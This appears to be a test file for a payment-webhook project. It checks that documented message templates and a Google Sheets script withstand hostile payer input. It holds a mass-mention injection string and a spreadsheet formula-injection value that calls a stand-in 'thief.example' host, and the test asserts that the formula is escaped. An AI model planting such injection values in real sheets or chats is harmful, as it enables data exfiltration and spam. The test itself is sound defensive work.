/** The templates and the script that the page about services shows. Each service is imitated as far as it judges a body. */
import { expect } from 'chai'
import { readFileSync } from 'node:fs'
import { runInNewContext } from 'node:vm'
import { SAMPLE, templateProblem } from '../../../domain/webhook/payload/custom.ts'
import { render } from '../../../domain/webhook/payload/render.ts'
import { testPayload } from '../../../domain/webhook/payload/test.ts'

const page = readFileSync(new URL('../../../docs/connect-a-service.md', import.meta.url), 'utf8')
const blockOf = (language: string): string => new RegExp(`\`\`\`${language}\n([^]+?)\`\`\``).exec(page)![1]!

/** Of a payer who knows the chat's commands. */
const ATTACK = `<!channel> <users/all> <at user_id="all"></at> @everyone "\n\\${'x'.repeat(5_000)}`

interface Message {
  chat_id: string
  text: string
  content: string & { text: string }
  msg_type: string
  allowed_mentions: object
}

/** Whether the service accepts the message. */
const SERVICES: Record<string, (message: Message) => boolean> = {
  telegram: ({ chat_id, text }) => chat_id !== '' && text.length > 0 && text.length <= 4_096,
  discord: ({ content, allowed_mentions }) => content.length > 0 && JSON.stringify(allowed_mentions) === '{"parse":[]}',
  slack: ({ text }) => text.length > 0 && !text.includes('<'),
  lark: ({ msg_type, content }) => msg_type === 'text' && /Baoco/.test(content.text) && !content.text.includes('<'),
}

const standard = (given: Partial<typeof SAMPLE> = {}): string =>
  render({ payload_format: 'standard', custom_template: null }, { ...SAMPLE, ...given }, 1767580203)

describe('the page about services', () => {
  for (const [service, accepts] of Object.entries(SERVICES))
    it(`shows a template that ${service} accepts, whatever the payer writes`, () => {
      const custom_template = blockOf(`json ${service}`)
      expect(templateProblem(custom_template)).to.equal(null)
      for (const written of [
        {},
        { description: ATTACK, counterpart_name: ATTACK.slice(0, 200) },
        { counterpart_name: null },
      ]) {
        const body = render({ payload_format: 'custom', custom_template }, { ...SAMPLE, ...written }, 1767580203)
        expect(accepts(JSON.parse(body) as Message), body).to.equal(true)
      }
    })

  describe('shows a script for Google Sheets that', () => {
    /** @returns the rows that the calls add, and which service forms each answer */
    const run = (calls: readonly (readonly [body: string, key: string])[]) => {
      const rows: unknown[][] = []
      const sheet = {
        appendRow: (row: unknown[]) => rows.push(row),
        getRange: () => ({
          createTextFinder: (text: string) => ({
            matchEntireCell: () => ({ findNext: () => rows.find(([id]) => String(id) === text) ?? null }),
          }),
        }),
      }
      const lock = { waitLock: () => undefined, releaseLock: () => undefined }
      const names = {
        console: { error: () => undefined },
        LockService: { getScriptLock: () => lock },
        SpreadsheetApp: { getActiveSpreadsheet: () => ({ getSheets: () => [sheet] }), flush: () => undefined },
        HtmlService: { createHtmlOutput: () => 200 },
        ContentService: { createTextOutput: () => 302 },
      }
      const doPost = runInNewContext(`${blockOf('js')}\ndoPost`, names) as (event: object) => number
      const answers = calls.map(([contents, key]) => doPost({ parameter: { key }, postData: { contents } }))
      return { rows, answers }
    }
    const KEY = 'a long random text'

    it('adds one row for a payment that arrives twice, and none for a test', () => {
      const test = JSON.stringify(testPayload(1767580203))
      const { rows, answers } = run([[standard(), KEY], [standard(), KEY], [test, KEY], [standard({ id: 1043 }), KEY]]) // prettier-ignore
      expect(rows.map(([id, , amount, order]) => [id, amount, order])).to.deep.equal([
        [1042, 150_000, 'DH1042'],
        [1043, 150_000, 'DH1042'],
      ])
      expect(answers).to.deep.equal([200, 200, 200, 200])
    })

    it('adds nothing for a wrong key or a broken body, and lets the call be repeated', () => {
      expect(
        run([
          [standard(), 'guess'],
          ['{', KEY],
        ]),
      ).to.deep.equal({ rows: [], answers: [302, 302] })
    })

    it('writes the name of the payer as a text', () => {
      const { rows } = run([[standard({ counterpart_name: '=IMPORTXML("https://thief.example")' }), KEY]])
      expect(rows[0]!.at(-1)).to.equal(`'=IMPORTXML("https://thief.example")`)
    })
  })
})
